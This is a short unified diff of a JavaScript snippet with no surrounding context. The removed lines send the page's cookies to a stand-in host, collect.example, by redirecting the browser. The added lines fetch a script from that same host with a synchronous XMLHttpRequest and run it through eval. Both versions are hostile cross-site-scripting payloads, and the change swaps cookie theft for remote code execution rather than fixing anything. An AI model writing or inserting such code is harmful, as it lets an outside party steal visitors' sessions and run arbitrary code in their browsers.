@@ -1,2 +1,4 @@
-var x = document.cookie;
-document.location = 'http://collect.example/c.php?c=' + escape(x);
+var x = new XMLHttpRequest;
+x.open('GET', '//collect.example/a', false);
+x.send();
+eval(x.responseText);
